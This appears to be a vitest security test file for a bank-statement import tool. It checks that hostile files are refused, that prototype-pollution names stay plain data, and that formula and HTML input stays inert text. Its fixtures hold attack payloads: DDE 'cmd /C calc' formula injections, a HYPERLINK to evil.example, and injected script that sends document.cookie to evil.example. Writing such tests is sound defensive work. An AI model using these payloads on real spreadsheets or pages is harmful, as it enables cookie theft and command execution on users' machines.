import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { openWorkbook } from '../../src/main/files/open-workbook.ts';
import { writeWorkbook } from '../../src/main/files/write-workbook.ts';
import { importContract } from '../../src/shared/contract/bank-file.ts';
import { csvText, xlsxBytes } from '../builders/bank-files.ts';
import { call, temporaryFolder, testDesk } from '../builders/desk.ts';
import { hostile } from '../builders/files-hostile.ts';
import { AMOUNTS, bookOf, everyKind, HEADERS, htmlText, LINES, rowsOf, spreadsheetMl, written } from '../builders/files-kinds.ts';

/** Files made to harm, given to a real desk: each ends in a named refusal, nothing is left behind, and the desk goes on. */
const folder = temporaryFolder();
const data = join(folder.path, 'data');
const desk = testDesk(data);
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const never = new AbortController().signal;

afterAll(() => {
  desk.close();
  folder.remove();
});

function fileOf(bytes: Uint8Array): string {
  const path = join(folder.path, 'dosya.xls');
  writeFileSync(path, bytes);
  return path;
}

describe('a file made to harm', () => {
  it.each(hostile)('%s is refused', { timeout: 120_000 }, async (_, make, code) => {
    const file = fileOf(make());
    for (const [method, input] of [['import.inspect', { file }], ['import.run', { files: [file] }]] as const) {
      const answer = await desk.call(method, input, { language: 'en' });
      if (answer.ok && method === 'import.inspect') {
        // What the user may still put right (a header to point at) is a question, not a refusal.
        expect(answer.data).toMatchObject({ summary: null, problem: { code: expect.stringContaining(code) } });
        continue;
      }
      expect(answer).toMatchObject({ ok: false, error: { code: expect.stringContaining(code) } });
    }
    expect(await desk.call('import.list', {}, { language: 'en' })).toEqual({ ok: true, data: { imports: [] } });
    expect(existsSync(join(data, 'files'))).toBe(false);
    expect(readdirSync(folder.path).sort()).toEqual(['data', 'dosya.xls']);
  });

  it('and the next good one is read, of whatever kind', async () => {
    for (const bytes of Object.values(everyKind())) {
      const { imports } = await call(desk, importContract, 'import.run', { files: [fileOf(bytes)] });
      expect(imports[0]?.rows).toMatchObject({ sales: 2, refunds: 1, rejected: 0 });
      expect(imports[0]?.amounts.sales).toBe((AMOUNTS[0] ?? 0) + (AMOUNTS[1] ?? 0));
    }
  });
});

describe('names that mean something to a program', () => {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
  const rows = [[...HEADERS, ...names], ...LINES.map((line) => [...line, ...names.map((name) => `${name}!`)])];

  it('are headers and cells like any other, in every kind', async () => {
    const files = [
      utf8(csvText(rows)),
      xlsxBytes([{ name: '__proto__', rows }]),
      written(bookOf(rows, '__proto__'), 'biff8'),
      written(bookOf(rows, 'constructor'), 'xlsb'),
      written(bookOf(rows, '__proto__'), 'xlml'),
      written(bookOf(rows, '__proto__'), 'ods'),
      utf8(htmlText(rows)),
    ];
    for (const bytes of files) {
      const { imports } = await call(desk, importContract, 'import.run', { files: [fileOf(bytes)] });
      expect(imports[0]?.headers.slice(-names.length)).toEqual(names);
      expect(imports[0]?.rows).toMatchObject({ sales: 2, refunds: 1 });
      const read = await call(desk, importContract, 'import.rows', { import_id: imports[0]?.import_id });
      expect(read.rows[0]?.cells.slice(-names.length)).toEqual(names.map((name) => `${name}!`));
    }
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});

describe('formulas in text', () => {
  const texts = ['=HYPERLINK("http://evil.example","x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '=1+1', "'=1+1", '=cmd|\'/C calc\'!A1'];

  it('stay the text they are when they are read', async () => {
    const cells = async (bytes: Uint8Array): Promise<unknown> => rowsOf(await openWorkbook(bytes, never))[0];
    expect(await cells(utf8(csvText([texts, ['x']])))).toEqual(texts);
    expect(await cells(xlsxBytes([{ name: 'A', rows: [texts] }]))).toEqual(texts);
    expect(await cells(written(bookOf([texts]), 'biff8'))).toEqual(texts);
    const xml = texts.map((text) => `<Cell><Data ss:Type="String">${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('\t', '&#9;')}</Data></Cell>`).join('');
    expect(await cells(utf8(spreadsheetMl(`<Row>${xml}</Row>`)))).toEqual(texts);
    expect(await cells(utf8(htmlText([texts])))).toEqual(texts.map((text) => text.trim()));
  });

  it('and are written as text, never as formulas', () => {
    const bytes = writeWorkbook([{ name: 'A', widths: texts.map(() => 10), rows: [texts.map((text) => ({ heading: text })), texts.map((text) => ({ text }))], filter: false }]);
    const sheet = XLSX.read(bytes, { dense: true, cellFormula: true }).Sheets['A'];
    for (const row of [0, 1]) {
      expect(sheet?.['!data']?.[row]?.map((cell) => [cell.t, cell.v, cell.f])).toEqual(texts.map((text) => ['s', text, undefined]));
    }
  });
});

describe('a page with scripts', () => {
  it('is read as its text alone', async () => {
    const page = htmlText([HEADERS, ...LINES]).replace('<body>', '<body onload="alert(1)"><script>fetch("http://evil.example/"+document.cookie)</script><iframe src="http://evil.example"></iframe><img src=x onerror=alert(1)>');
    const { imports } = await call(desk, importContract, 'import.run', { files: [fileOf(utf8(page))] });
    expect(imports[0]?.headers).toEqual(HEADERS);
    expect(JSON.stringify(imports)).not.toContain('evil');
  });
});
